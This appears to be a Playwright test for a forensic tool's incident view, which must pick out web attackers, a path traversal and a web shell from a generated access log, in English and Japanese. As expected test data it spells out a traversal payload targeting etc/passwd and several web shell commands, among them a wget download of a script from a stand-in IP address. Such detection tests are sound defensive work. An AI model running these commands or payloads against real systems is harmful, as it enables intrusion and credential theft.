// The web story in the browser: a generated access log (seed 45 of test/bench/generate-web.mjs)
// with ordinary visitors, crawlers walking dead links, look-alikes ("select chair",
// "union-jack-flag", "../" in a Referer) and three attackers: an upload then a web shell run
// with ?cmd=, a path traversal that worked and a command injection that did not. The incident
// view must name only the attackers, their first successes in time order and the web shell
// with its commands URL-decoded; once in English, once in the Japanese UI.
import { expect, type Page } from '@playwright/test';
// @ts-expect-error plain ES module shared with the bench (no types)
import { generateWebScenario } from '../bench/generate-web.mjs';
import { test } from './serve-fixture';
import { createCase, dropFiles } from './workbench-helpers';

interface WebScenario {
  lines: string[];
  format: string;
  truth: { attackers: string[]; webshells: string[]; succeeded: string[] };
}

const sc = generateWebScenario(45) as WebScenario;
const COMMANDS = ['whoami', 'id', 'uname -a', 'cat /etc/passwd', 'ls -la /var/www', 'wget http://203.0.113.9/x.sh -O /tmp/x.sh'];
const clients = [...new Set(sc.lines.map((l) => l.split(' ')[0]!))];
const bystanders = clients.filter((c) => !sc.truth.attackers.includes(c));

test.describe.configure({ timeout: 120_000 });
test.use({ viewport: { width: 1600, height: 1400 } });

async function openWebStory(page: Page, url: string, name: string) {
  await createCase(page, url, { name, examiner: '高橋 実' });
  await dropFiles(page, [{ name: 'access.log', data: `${sc.lines.join('\n')}\n` }]);
  await expect(page.getByTestId('evidence-row')).toHaveCount(1, { timeout: 30_000 });
  await page.getByTestId('tab-incident').click();
  const story = page.getByTestId('story');
  await story.getByTestId('run-detection').click();
  const web = story.getByTestId('web-story');
  await expect(web).toBeVisible({ timeout: 30_000 });
  return { story, web };
}

test('the web story names only the attackers, their first successes and the web shell with its commands', async ({ page, serve }, info) => {
  expect(sc.format).toBe('ncsa');
  expect(bystanders.length).toBeGreaterThan(15);
  const { story, web } = await openWebStory(page, serve.url, 'Web サーバ侵害 2026-11');

  const attackers = web.getByTestId('web-attacker');
  await expect(attackers).toHaveCount(sc.truth.attackers.length);
  const ips = await attackers.evaluateAll((rows) => rows.map((r) => r.getAttribute('data-ip')));
  expect([...ips].sort()).toEqual([...sc.truth.attackers].sort());
  // Not one visitor, crawler or look-alike is named anywhere in the web story.
  const text = (await web.textContent()) ?? '';
  for (const b of bystanders) expect(text).not.toContain(b);

  // Successes: only from the attackers that succeeded, in time order, as the log wrote them.
  const successes = web.getByTestId('web-success');
  const rows = await successes.evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent ?? '')));
  expect(new Set(rows.map((r) => r[1]))).toEqual(new Set(sc.truth.succeeded));
  const times = rows.map((r) => r[0]!);
  expect(times).toEqual([...times].sort());
  expect(rows.some((r) => r[3] === '/download.php?file=..%2f..%2f..%2f..%2fetc%2fpasswd')).toBe(true);
  // The command injection that was refused (403) is an attacker, not a success.
  const refused = sc.truth.attackers.find((a) => !sc.truth.succeeded.includes(a))!;
  expect(rows.some((r) => r[1] === refused)).toBe(false);

  // The web shell, its user and its commands decoded.
  const shell = web.getByTestId('web-shell');
  await expect(shell).toHaveCount(1);
  await expect(shell.locator('td').first()).toHaveText(sc.truth.webshells[0]!);
  await expect(shell.locator('li')).toHaveText(COMMANDS);

  // No workstation is called infected on a web server's log.
  await expect(story.getByTestId('infected-host')).toHaveCount(0);
  await web.screenshot({ path: info.outputPath('web-story-en.png') });
  await page.screenshot({ path: info.outputPath('incident-web-en.png'), fullPage: true });
});

test('the same web story in the Japanese UI', async ({ page, serve }, info) => {
  await page.addInitScript(() => localStorage.setItem('tracelight.lang', 'ja'));
  const { web } = await openWebStory(page, serve.url, 'Web サーバ侵害（日本語）');
  await expect(web.getByRole('heading', { level: 2 })).toHaveText('Web 攻撃');
  await expect(web.getByText(`攻撃元 (${sc.truth.attackers.length})`)).toBeVisible();
  await expect(web.getByText('Web シェル (1)')).toBeVisible();
  await expect(web.getByTestId('web-attacker')).toHaveCount(sc.truth.attackers.length);
  await expect(web.getByTestId('web-shell').locator('li')).toHaveText(COMMANDS);
  await web.screenshot({ path: info.outputPath('web-story-ja.png') });
});
